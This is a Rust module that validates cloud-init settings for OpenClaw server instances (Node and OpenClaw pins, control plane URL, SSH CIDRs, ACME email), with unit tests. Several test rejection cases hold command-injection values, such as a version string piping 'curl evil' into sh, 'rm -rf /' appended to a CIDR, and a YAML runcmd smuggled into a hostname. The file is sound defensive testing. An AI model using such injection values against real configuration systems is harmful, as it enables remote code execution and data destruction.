//! What a deployment configures about its instances' first boot, and the checks that keep every
//! value inside a charset that is inert in YAML, shell, systemd units and Caddyfiles alike.

use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};

use serde::{Deserialize, Serialize};

use crate::error::{Error, Result};

/// The OpenClaw release new instances get until a deployment pins another. Its npm
/// `engines` field asks for Node `>=24.16.0 <25 || >=26.1.0`, which [`DEFAULT_NODE_VERSION`]
/// meets.
pub const DEFAULT_OPENCLAW_VERSION: &str = "2026.9.6";

/// The Node.js release new instances get until a deployment pins another: a 24.x LTS release
/// at or above OpenClaw's floor for that line.
pub const DEFAULT_NODE_VERSION: &str = "24.17.0";

/// The SHA-256 of `node-v24.17.0-linux-x64.tar.gz`, as nodejs.org's `SHASUMS256.txt` for
/// [`DEFAULT_NODE_VERSION`] lists it: the default pin of `cloud_init.node_sha256.x64`. (No
/// `arm64` pin ships: a deployment on ARM servers sets its own.)
pub const DEFAULT_NODE_SHA256_X64: &str =
    "e0472427aa791ad80bdc426ff7cc73cdd28ed0f616d1ff9689a23a7f47f1265f";

/// npm's `dist.integrity` of `openclaw@2026.9.6` ([`DEFAULT_OPENCLAW_VERSION`]): the SHA-512
/// of its tarball, the default of `cloud_init.openclaw_integrity`.
pub const DEFAULT_OPENCLAW_INTEGRITY: &str =
    "sha512-Ie0kyQSCVfFqixsgVg39vevUDq01Ch5u3+7Yu5Y3qARczmdAe+lzp8bVnO9925rHiW/+CFp70zfORCyPmCH31g==";

/// The architectures a Node.js pin may name (nodejs.org's names).
pub const NODE_ARCHITECTURES: &[&str] = &["x64", "arm64"];

/// The oldest Node.js accepted: OpenClaw's documented floor on the 24 line (24.15). Its docs
/// also allow 22.22+, but recommend 24 or newer, and new instances should not start on the
/// older LTS line (recent OpenClaw releases no longer accept it at all). The pinned OpenClaw
/// release may ask for more (`2026.9.6` wants 24.16+); keep the two pins in step.
pub const MIN_NODE_VERSION: (u64, u64) = (24, 15);

/// Most admin networks SSH may be opened to; a longer list is almost certainly a mistake, and
/// the bound keeps the user data's size bounded.
pub const MAX_ADMIN_SSH_CIDRS: usize = 32;

/// Longest accepted control plane URL.
pub const MAX_CONTROL_PLANE_URL_LEN: usize = 256;

/// Longest accepted OpenClaw version string.
pub const MAX_VERSION_LEN: usize = 64;

/// Longest accepted instance name (the DNS limit).
pub const MAX_FQDN_LEN: usize = 253;

/// Longest accepted ACME account address.
pub const MAX_EMAIL_LEN: usize = 254;

/// How the first boot of every instance is set up: what to install, where to fetch secrets,
/// who may reach SSH, and who Let's Encrypt should write to.
///
/// Deserializing does not validate; call [`CloudInitConfig::validate`] (rendering does).
/// Nothing in it is secret, so `Debug` shows every field.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct CloudInitConfig {
    /// The exact OpenClaw release installed from npm, such as `2026.9.6`: `MAJOR.MINOR.PATCH`
    /// with an optional `-pre.release` or `+build` suffix, at most 64 characters. Dist-tags
    /// (`latest`) and ranges are refused so that every instance of a deployment runs the
    /// release that was tested.
    #[serde(default = "default_openclaw_version")]
    pub openclaw_version: String,
    /// The exact Node.js release, `MAJOR.MINOR.PATCH`, at least 24.15 (see
    /// [`MIN_NODE_VERSION`]).
    #[serde(default = "default_node_version")]
    pub node_version: String,
    /// The SHA-256 of nodejs.org's `node-v<node_version>-linux-<arch>.tar.gz` by architecture
    /// (`x64`, `arm64`), 64 lowercase hex digits: the installer refuses a tarball that does
    /// not match (besides checking the release's own `SHASUMS256.txt`, which comes from the
    /// same server), and refuses to install on an architecture without a pin. Defaults to the
    /// `x64` pin of the default Node release; changing `node_version` needs new pins.
    #[serde(default = "default_node_sha256")]
    pub node_sha256: std::collections::BTreeMap<String, String>,
    /// npm's `dist.integrity` of `openclaw@<openclaw_version>` (`sha512-<base64>`; see
    /// `npm view openclaw@<version> dist.integrity`): the installer downloads the release's
    /// tarball and refuses it unless its SHA-512 matches. Changing `openclaw_version` needs
    /// the new release's integrity.
    #[serde(default = "default_openclaw_integrity")]
    pub openclaw_integrity: String,
    /// Base URL of the control plane the VPS fetches its secrets from, such as
    /// `https://panel.example.com`; the VPS calls `POST <url>/v1/bootstrap/<token>`. `https`
    /// only (plain `http` only to a loopback host, for tests); a host name or IP address, an
    /// optional port and an optional path of `A-Z a-z 0-9 / . _ -`; no query, fragment or
    /// credentials.
    pub control_plane_url: String,
    /// IPv4 or IPv6 networks (`203.0.113.0/24`, `2001:db8::/32`; a bare address means just
    /// that host) from which SSH is allowed. Empty: SSH is closed. At most
    /// [`MAX_ADMIN_SSH_CIDRS`]. Host bits below the prefix are ignored.
    #[serde(default)]
    pub admin_ssh_cidrs: Vec<String>,
    /// The address Caddy registers its ACME account with, for expiry and problem notices.
    /// A plain `local@domain.tld` address: letters, digits and `. _ % + -` before the `@`.
    #[serde(default)]
    pub acme_email: Option<String>,
}

fn default_openclaw_version() -> String {
    DEFAULT_OPENCLAW_VERSION.to_string()
}

fn default_node_version() -> String {
    DEFAULT_NODE_VERSION.to_string()
}

fn default_node_sha256() -> std::collections::BTreeMap<String, String> {
    [("x64".to_string(), DEFAULT_NODE_SHA256_X64.to_string())].into()
}

fn default_openclaw_integrity() -> String {
    DEFAULT_OPENCLAW_INTEGRITY.to_string()
}

impl Default for CloudInitConfig {
    /// The pinned default versions, SSH closed, no ACME address, and the placeholder control
    /// plane `https://openclaw.invalid`: it validates, but `.invalid` never resolves, so a
    /// deployment that forgets to set its own URL gets instances that fail their bootstrap
    /// (and roll back) instead of sending tokens somewhere real.
    fn default() -> Self {
        CloudInitConfig {
            openclaw_version: default_openclaw_version(),
            node_version: default_node_version(),
            node_sha256: default_node_sha256(),
            openclaw_integrity: default_openclaw_integrity(),
            control_plane_url: "https://openclaw.invalid".to_string(),
            admin_ssh_cidrs: Vec::new(),
            acme_email: None,
        }
    }
}

impl CloudInitConfig {
    /// Checks every field; the error is [`Error::InvalidInput`] naming the field, such as
    /// `cloud_init.node_version`.
    pub fn validate(&self) -> Result<()> {
        validate_openclaw_version(&self.openclaw_version)?;
        validate_node_version(&self.node_version)?;
        validate_node_pins(&self.node_version, &self.node_sha256)?;
        integrity_sha512_hex(&self.openclaw_integrity)?;
        if self.openclaw_version != DEFAULT_OPENCLAW_VERSION
            && self.openclaw_integrity == DEFAULT_OPENCLAW_INTEGRITY
        {
            return Err(Error::invalid(
                OPENCLAW_INTEGRITY,
                format!(
                    "is the integrity of openclaw@{DEFAULT_OPENCLAW_VERSION}; give the one of \
                     openclaw@{} (`npm view openclaw@{} dist.integrity`)",
                    self.openclaw_version, self.openclaw_version
                ),
            ));
        }
        validate_control_plane_url(&self.control_plane_url)?;
        admin_networks(&self.admin_ssh_cidrs)?;
        if let Some(email) = &self.acme_email {
            validate_email(email)?;
        }
        Ok(())
    }
}

const OPENCLAW_VERSION: &str = "cloud_init.openclaw_version";
const NODE_VERSION: &str = "cloud_init.node_version";
const NODE_SHA256: &str = "cloud_init.node_sha256";
const OPENCLAW_INTEGRITY: &str = "cloud_init.openclaw_integrity";

/// Checks the Node.js pins: known architectures, 64 lowercase hex digits each, at least one,
/// and not the default release's pins for another release.
fn validate_node_pins(
    version: &str,
    pins: &std::collections::BTreeMap<String, String>,
) -> Result<()> {
    if pins.is_empty() {
        return Err(Error::invalid(
            NODE_SHA256,
            "needs the SHA-256 of at least one architecture's tarball (x64 or arm64)",
        ));
    }
    for (arch, sha256) in pins {
        if !NODE_ARCHITECTURES.contains(&arch.as_str()) {
            return Err(Error::invalid(
                NODE_SHA256,
                format!("names {arch:?}; the architectures are x64 and arm64"),
            ));
        }
        if !crate::domain::is_sha256_hex(sha256) {
            return Err(Error::invalid(
                format!("{NODE_SHA256}.{arch}"),
                "must be 64 lowercase hex digits",
            ));
        }
    }
    if version != DEFAULT_NODE_VERSION && *pins == default_node_sha256() {
        return Err(Error::invalid(
            NODE_SHA256,
            format!(
                "holds the pin of Node {DEFAULT_NODE_VERSION}; give the SHA-256 of \
                 node-v{version}-linux-<arch>.tar.gz (from nodejs.org's SHASUMS256.txt for \
                 v{version}, checked out of band)"
            ),
        ));
    }
    Ok(())
}

/// The SHA-512 an npm `dist.integrity` (`sha512-<base64 of 64 bytes>`) names, as the 128
/// lowercase hex digits `sha512sum` prints; `InvalidInput` on `cloud_init.openclaw_integrity`
/// for anything else.
pub(crate) fn integrity_sha512_hex(integrity: &str) -> Result<String> {
    use base64::Engine as _;
    let bytes = integrity
        .strip_prefix("sha512-")
        .and_then(|b64| base64::engine::general_purpose::STANDARD.decode(b64).ok())
        .filter(|bytes| bytes.len() == 64)
        .ok_or_else(|| {
            Error::invalid(
                OPENCLAW_INTEGRITY,
                "must be npm's sha512-<base64> integrity of the release's tarball",
            )
        })?;
    Ok(crate::domain::to_hex(&bytes))
}
const CONTROL_PLANE_URL: &str = "cloud_init.control_plane_url";
const ADMIN_SSH_CIDRS: &str = "cloud_init.admin_ssh_cidrs";
const ACME_EMAIL: &str = "cloud_init.acme_email";

/// Digits without a leading zero (unless just `0`), as a number.
fn numeric_part(s: &str) -> Option<u64> {
    if s.is_empty() || !s.bytes().all(|b| b.is_ascii_digit()) || (s.len() > 1 && s.starts_with('0'))
    {
        return None;
    }
    s.parse().ok()
}

/// `MAJOR.MINOR.PATCH` as numbers.
fn triple(s: &str) -> Option<(u64, u64, u64)> {
    let mut parts = s.split('.');
    let major = numeric_part(parts.next()?)?;
    let minor = numeric_part(parts.next()?)?;
    let patch = numeric_part(parts.next()?)?;
    if parts.next().is_some() {
        return None;
    }
    Some((major, minor, patch))
}

fn validate_openclaw_version(version: &str) -> Result<()> {
    if version.is_empty() || version.len() > MAX_VERSION_LEN {
        return Err(Error::invalid(
            OPENCLAW_VERSION,
            format!("must be 1-{MAX_VERSION_LEN} characters"),
        ));
    }
    let allowed = |c: char| c.is_ascii_alphanumeric() || matches!(c, '.' | '+' | '-');
    if !version.chars().all(allowed) {
        return Err(Error::invalid(
            OPENCLAW_VERSION,
            "may only contain letters, digits and . + -",
        ));
    }
    let (core, suffix) = match version.find(['-', '+']) {
        Some(at) => version.split_at(at),
        None => (version, ""),
    };
    if triple(core).is_none() || !is_semver_suffix(suffix) {
        return Err(Error::invalid(
            OPENCLAW_VERSION,
            "must be an exact release such as 2026.9.6 (MAJOR.MINOR.PATCH, optionally with a \
             -pre.release or +build suffix), not a dist-tag or range",
        ));
    }
    Ok(())
}

/// A semver pre-release (`-rc.1`) and/or build (`+build.5`) suffix, or nothing: dot-separated,
/// non-empty identifiers of letters, digits and hyphens.
fn is_semver_suffix(suffix: &str) -> bool {
    let identifiers = |s: &str| {
        s.split('.')
            .all(|id| !id.is_empty() && id.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-'))
    };
    let (pre, build) = if suffix.is_empty() {
        (None, None)
    } else if let Some(rest) = suffix.strip_prefix('-') {
        match rest.split_once('+') {
            Some((pre, build)) => (Some(pre), Some(build)),
            None => (Some(rest), None),
        }
    } else if let Some(build) = suffix.strip_prefix('+') {
        (None, Some(build))
    } else {
        return false;
    };
    pre.is_none_or(identifiers) && build.is_none_or(identifiers)
}

fn validate_node_version(version: &str) -> Result<()> {
    let Some((major, minor, _)) = triple(version) else {
        return Err(Error::invalid(
            NODE_VERSION,
            "must be an exact release MAJOR.MINOR.PATCH such as 24.17.0",
        ));
    };
    if (major, minor) < MIN_NODE_VERSION {
        return Err(Error::invalid(
            NODE_VERSION,
            format!(
                "must be {}.{} or newer (OpenClaw's floor on the recommended Node 24 line)",
                MIN_NODE_VERSION.0, MIN_NODE_VERSION.1
            ),
        ));
    }
    Ok(())
}

/// A host name of letter/digit/hyphen labels (any case). `min_labels` is 2 for names that must
/// be under a domain.
fn is_host_name(host: &str, lowercase_only: bool, min_labels: usize) -> bool {
    if host.is_empty() || host.len() > MAX_FQDN_LEN {
        return false;
    }
    let labels: Vec<&str> = host.split('.').collect();
    if labels.len() < min_labels {
        return false;
    }
    let label_ok = |label: &&str| {
        !label.is_empty()
            && label.len() <= 63
            && !label.starts_with('-')
            && !label.ends_with('-')
            && label.bytes().all(|b| {
                b.is_ascii_digit()
                    || b == b'-'
                    || b.is_ascii_lowercase()
                    || (!lowercase_only && b.is_ascii_uppercase())
            })
    };
    // An all-digit last label would make the name read as an IP address.
    labels.iter().all(label_ok)
        && labels
            .last()
            .is_some_and(|tld| !tld.bytes().all(|b| b.is_ascii_digit()))
}

/// Checks the instance's name: lowercase DNS labels of letters, digits and inner hyphens,
/// 1-63 characters each, at least two labels, at most 253 characters, no trailing dot.
pub(crate) fn validate_fqdn(fqdn: &str) -> Result<()> {
    if is_host_name(fqdn, true, 2) {
        Ok(())
    } else {
        Err(Error::invalid(
            "fqdn",
            "must be a lowercase DNS name: at least two labels of a-z, 0-9 and inner hyphens, \
             1-63 characters each, at most 253 in all, not ending in a dot or a numeric label",
        ))
    }
}

fn validate_control_plane_url(url: &str) -> Result<()> {
    let fail = |message: &str| Err(Error::invalid(CONTROL_PLANE_URL, message));
    if url.len() > MAX_CONTROL_PLANE_URL_LEN {
        return fail("must be at most 256 characters");
    }
    let (secure, rest) = if let Some(rest) = url.strip_prefix("https://") {
        (true, rest)
    } else if let Some(rest) = url.strip_prefix("http://") {
        (false, rest)
    } else {
        return fail("must start with https://");
    };
    let (authority, path) = match rest.find('/') {
        Some(at) => rest.split_at(at),
        None => (rest, ""),
    };
    let (host, port) = if let Some(bracketed) = authority.strip_prefix('[') {
        let Some((inside, after)) = bracketed.split_once(']') else {
            return fail("has an unclosed [ in its host");
        };
        if inside.parse::<Ipv6Addr>().is_err() {
            return fail("has an invalid IPv6 address");
        }
        let port = match after {
            "" => None,
            p => match p.strip_prefix(':') {
                Some(port) => Some(port),
                None => return fail("must have only a port after the IPv6 address"),
            },
        };
        (HostKind::Ipv6(inside), port)
    } else {
        let (host, port) = match authority.split_once(':') {
            Some((host, port)) => (host, Some(port)),
            None => (authority, None),
        };
        if let Ok(ip) = host.parse::<Ipv4Addr>() {
            (HostKind::Ipv4(ip), port)
        } else if is_host_name(host, false, 1) {
            (HostKind::Name(host), port)
        } else {
            return fail(
                "must have a host name of letters, digits, hyphens and dots, or an IP address",
            );
        }
    };
    if let Some(port) = port {
        if !matches!(numeric_part(port), Some(1..=65535)) {
            return fail("must have a port between 1 and 65535");
        }
    }
    let path_ok = path
        .chars()
        .all(|c| c.is_ascii_alphanumeric() || matches!(c, '/' | '.' | '_' | '-'));
    if !path_ok {
        return fail(
            "may only have a path of letters, digits and / . _ - (no query, fragment, spaces or quotes)",
        );
    }
    if path
        .split('/')
        .any(|segment| segment == "." || segment == "..")
    {
        return fail("must not have . or .. path segments");
    }
    if !secure && !host.is_loopback() {
        return fail("must use https (plain http is allowed only to a loopback host, for tests)");
    }
    Ok(())
}

enum HostKind<'a> {
    Ipv4(Ipv4Addr),
    Ipv6(&'a str),
    Name(&'a str),
}

impl HostKind<'_> {
    fn is_loopback(&self) -> bool {
        match self {
            HostKind::Ipv4(ip) => ip.is_loopback(),
            HostKind::Ipv6(text) => text.parse::<Ipv6Addr>().is_ok_and(|ip| ip.is_loopback()),
            HostKind::Name(name) => name.eq_ignore_ascii_case("localhost"),
        }
    }
}

/// The URL the bootstrap script posts to (its token goes in the `Authorization` header, never
/// in the URL, which proxies log). `base` must have passed validation.
pub(crate) fn bootstrap_url(base: &str) -> String {
    format!("{}/v1/bootstrap", base.trim_end_matches('/'))
}

/// One validated admin network, with the host bits below its prefix cleared.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) struct Network {
    address: IpAddr,
    prefix: u8,
}

impl std::fmt::Display for Network {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "{}/{}", self.address, self.prefix)
    }
}

fn parse_network(text: &str) -> Option<Network> {
    let (address, prefix) = match text.split_once('/') {
        Some((address, prefix)) => (address, Some(prefix)),
        None => (text, None),
    };
    let address: IpAddr = address.parse().ok()?;
    let max: u8 = if address.is_ipv4() { 32 } else { 128 };
    let prefix = match prefix {
        None => max,
        Some(p) if p.len() <= 3 => u8::try_from(numeric_part(p)?).ok()?,
        Some(_) => return None,
    };
    if prefix > max {
        return None;
    }
    let address = match address {
        IpAddr::V4(v4) => {
            let mask = u32::MAX.checked_shl(32 - u32::from(prefix)).unwrap_or(0);
            IpAddr::V4(Ipv4Addr::from(u32::from(v4) & mask))
        }
        IpAddr::V6(v6) => {
            let mask = u128::MAX.checked_shl(128 - u32::from(prefix)).unwrap_or(0);
            IpAddr::V6(Ipv6Addr::from(u128::from(v6) & mask))
        }
    };
    Some(Network { address, prefix })
}

/// Parses the admin networks, or says which entry is wrong (by position, not by repeating it).
pub(crate) fn admin_networks(cidrs: &[String]) -> Result<Vec<Network>> {
    if cidrs.len() > MAX_ADMIN_SSH_CIDRS {
        return Err(Error::invalid(
            ADMIN_SSH_CIDRS,
            format!("may list at most {MAX_ADMIN_SSH_CIDRS} networks"),
        ));
    }
    cidrs
        .iter()
        .enumerate()
        .map(|(i, cidr)| {
            parse_network(cidr).ok_or_else(|| {
                Error::invalid(
                    ADMIN_SSH_CIDRS,
                    format!("entry {i} is not an IPv4 or IPv6 network such as 203.0.113.0/24"),
                )
            })
        })
        .collect()
}

fn validate_email(email: &str) -> Result<()> {
    let ok = email.len() <= MAX_EMAIL_LEN
        && email.split_once('@').is_some_and(|(local, domain)| {
            !local.is_empty()
                && local.len() <= 64
                && !local.starts_with('.')
                && !local.ends_with('.')
                && local
                    .chars()
                    .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '%' | '+' | '-'))
                && is_host_name(domain, false, 2)
        });
    if ok {
        Ok(())
    } else {
        Err(Error::invalid(
            ACME_EMAIL,
            "must be a plain address local@domain.tld (letters, digits and . _ % + - before the @)",
        ))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn field_of(result: Result<()>) -> String {
        match result {
            Err(Error::InvalidInput { field, .. }) => field,
            other => panic!("expected InvalidInput, got {other:?}"),
        }
    }

    #[test]
    fn the_default_validates() {
        CloudInitConfig::default().validate().unwrap();
    }

    #[test]
    fn deserializing_defaults_the_versions_but_not_the_control_plane() {
        let config: CloudInitConfig =
            serde_json::from_str(r#"{"control_plane_url": "https://panel.example.com"}"#).unwrap();
        assert_eq!(config.openclaw_version, DEFAULT_OPENCLAW_VERSION);
        assert_eq!(config.node_version, DEFAULT_NODE_VERSION);
        assert!(config.admin_ssh_cidrs.is_empty());
        assert_eq!(config.acme_email, None);
        config.validate().unwrap();
        // A deployment that forgets its control plane should hear about it, not get the
        // placeholder.
        assert!(serde_json::from_str::<CloudInitConfig>("{}").is_err());
        // A misspelt key is an error, not a silently ignored setting.
        assert!(serde_json::from_str::<CloudInitConfig>(
            r#"{"control_plane_url": "https://panel.example.com", "acme_mail": "ops@example.com"}"#
        )
        .is_err());
        let round_trip: CloudInitConfig =
            serde_json::from_str(&serde_json::to_string(&config).unwrap()).unwrap();
        assert_eq!(round_trip, config);
    }

    #[test]
    fn openclaw_versions_must_be_exact() {
        for ok in [
            "2026.9.6",
            "1.0.0",
            "2026.2.3-1",
            "1.2.3-beta.4+build.5",
            "0.0.0",
        ] {
            validate_openclaw_version(ok).unwrap();
        }
        for bad in [
            "",
            "latest",
            "next",
            "beta",
            "1",
            "1.2",
            "1.x",
            "1.2.3.4",
            "01.2.3",
            "v1.2.3",
            "^1.2.3",
            "1.2.3-",
            "1.2.3+",
            "1.2.3-+",
            "1.2.3-a..b",
            "1.2.3+a+b",
            "1.2.3 ",
            "1.0\"; curl evil|sh; \"",
            "1.2.3\n",
            "１.2.3",
        ] {
            assert_eq!(
                field_of(validate_openclaw_version(bad)),
                OPENCLAW_VERSION,
                "{bad:?}"
            );
        }
        let long = format!("1.2.3-{}", "a".repeat(MAX_VERSION_LEN - 6));
        validate_openclaw_version(&long).unwrap();
        assert!(validate_openclaw_version(&format!("{long}a")).is_err());
    }

    #[test]
    fn release_pins_are_checked_and_follow_the_versions() {
        let base = CloudInitConfig::default();
        base.validate().unwrap();
        assert_eq!(
            integrity_sha512_hex(DEFAULT_OPENCLAW_INTEGRITY)
                .unwrap()
                .len(),
            128
        );
        let with = |f: &dyn Fn(&mut CloudInitConfig)| {
            let mut config = base.clone();
            f(&mut config);
            config.validate()
        };
        // Another release with the default release's pins: refused, naming the pin to give.
        assert_eq!(
            field_of(with(&|c| c.node_version = "24.18.0".into())),
            NODE_SHA256
        );
        assert_eq!(
            field_of(with(&|c| c.openclaw_version = "2026.9.7".into())),
            OPENCLAW_INTEGRITY
        );
        with(&|c| {
            c.node_version = "24.18.0".into();
            c.node_sha256 = [("arm64".to_string(), "c".repeat(64))].into();
        })
        .unwrap();
        with(&|c| {
            c.openclaw_version = "2026.9.7".into();
            c.openclaw_integrity = format!("sha512-{}==", "A".repeat(86));
        })
        .unwrap();
        // Malformed pins.
        for pins in [
            vec![],
            vec![("x86", "a".repeat(64))],
            vec![("x64", "A".repeat(64))],
            vec![("x64", "a".repeat(63))],
        ] {
            let field = field_of(with(&|c| {
                c.node_sha256 = pins
                    .iter()
                    .map(|(k, v)| ((*k).to_string(), v.clone()))
                    .collect();
            }));
            assert!(field.starts_with(NODE_SHA256), "{field}");
        }
        for integrity in ["", "sha256-AAAA", "sha512-not base64", "sha512-AAAA"] {
            assert_eq!(
                field_of(with(&|c| c.openclaw_integrity = integrity.into())),
                OPENCLAW_INTEGRITY,
                "{integrity}"
            );
        }
    }

    #[test]
    fn node_must_be_24_15_or_newer() {
        for ok in ["24.15.0", "24.17.0", "26.1.0", "100.0.0"] {
            validate_node_version(ok).unwrap();
        }
        for bad in [
            "24.14.9",
            "22.22.0",
            "20.0.0",
            "24",
            "24.15",
            "24.15.0.1",
            "v24.15.0",
            "24.015.0",
            "24.15.0-rc.1",
            "99999999999999999999.0.0",
        ] {
            assert_eq!(
                field_of(validate_node_version(bad)),
                NODE_VERSION,
                "{bad:?}"
            );
        }
    }

    #[test]
    fn control_plane_urls() {
        for ok in [
            "https://panel.example.com",
            "https://panel.example.com/",
            "https://panel.example.com:8443/openclaw/api",
            "https://10.0.0.1",
            "https://[2001:db8::1]:443/x",
            "http://127.0.0.1:3000",
            "http://localhost:8080",
            "http://[::1]:8080",
            "https://openclaw.invalid",
        ] {
            validate_control_plane_url(ok).unwrap_or_else(|e| panic!("{ok}: {e}"));
        }
        for bad in [
            "",
            "panel.example.com",
            "ftp://panel.example.com",
            "http://panel.example.com",
            "http://10.0.0.1",
            "https://",
            "https://user@panel.example.com",
            "https://panel.example.com/?x=1",
            "https://panel.example.com/#x",
            "https://panel.example.com/a b",
            "https://panel.example.com/'",
            "https://panel.example.com/\"",
            "https://panel.example.com/../x",
            "https://panel..example.com",
            "https://-panel.example.com",
            "https://panel.example.com:0",
            "https://panel.example.com:65536",
            "https://panel.example.com:",
            "https://[::1",
            "https://[::1]x",
            "https://1.2.3.999",
            "https://panel.example.com\n",
        ] {
            assert_eq!(
                field_of(validate_control_plane_url(bad)),
                CONTROL_PLANE_URL,
                "{bad:?}"
            );
        }
        assert!(
            validate_control_plane_url(&format!("https://a.example/{}", "x".repeat(300))).is_err()
        );
    }

    #[test]
    fn networks_are_parsed_and_normalised() {
        let parsed = admin_networks(&[
            "203.0.113.7/24".to_string(),
            "198.51.100.1".to_string(),
            "2001:db8::1/32".to_string(),
            "::/0".to_string(),
        ])
        .unwrap();
        let shown: Vec<String> = parsed.iter().map(ToString::to_string).collect();
        assert_eq!(
            shown,
            ["203.0.113.0/24", "198.51.100.1/32", "2001:db8::/32", "::/0"]
        );
        for bad in [
            "",
            "1.2.3.4/33",
            "::/129",
            "1.2.3.4/",
            "1.2.3.4/-1",
            "1.2.3.4/0032",
            "1.2.3",
            "fe80::1%eth0",
            "1.2.3.4 /8",
            "a.b.c.d/8",
            "1.2.3.4/8; rm -rf /",
        ] {
            let err = admin_networks(&[bad.to_string()]).unwrap_err();
            assert!(
                matches!(err, Error::InvalidInput { ref field, .. } if field == ADMIN_SSH_CIDRS),
                "{bad:?}"
            );
        }
        let full = vec!["10.0.0.0/8".to_string(); MAX_ADMIN_SSH_CIDRS];
        assert_eq!(admin_networks(&full).unwrap().len(), MAX_ADMIN_SSH_CIDRS);
        let over = vec!["10.0.0.0/8".to_string(); MAX_ADMIN_SSH_CIDRS + 1];
        assert!(admin_networks(&over).is_err());
    }

    #[test]
    fn emails() {
        for ok in [
            "ops@example.com",
            "first.last+acme@mail.example.co.uk",
            "a_b%c-d@x-y.io",
        ] {
            validate_email(ok).unwrap();
        }
        for bad in [
            "",
            "ops",
            "@example.com",
            "ops@",
            "ops@example",
            "a@b@example.com",
            "a b@example.com",
            "ops@example.com\n",
            "\"o\"@example.com",
            "{$HOME}@example.com",
            "ops@{env.X}.com",
            "ops#x@example.com",
            ".ops@example.com",
        ] {
            assert_eq!(field_of(validate_email(bad)), ACME_EMAIL, "{bad:?}");
        }
    }

    #[test]
    fn fqdns() {
        let label = "a".repeat(63);
        let longest = format!("{label}.{label}.{label}.{}", "b".repeat(61));
        assert_eq!(longest.len(), 253);
        for ok in [
            "alice.claw.example.com",
            "a-1.example.io",
            "x.y",
            longest.as_str(),
        ] {
            validate_fqdn(ok).unwrap();
        }
        for bad in [
            "",
            "localhost",
            "Alice.example.com",
            "alice.example.com.",
            "-a.example.com",
            "a-.example.com",
            "a..example.com",
            "a_b.example.com",
            "1.2.3.4",
            "a.com\nruncmd: [rm -rf /]",
            "ä.example.com",
            &format!("{longest}a"),
            &format!("{}.com", "a".repeat(64)),
        ] {
            assert_eq!(field_of(validate_fqdn(bad)), "fqdn", "{bad:?}");
        }
    }
}
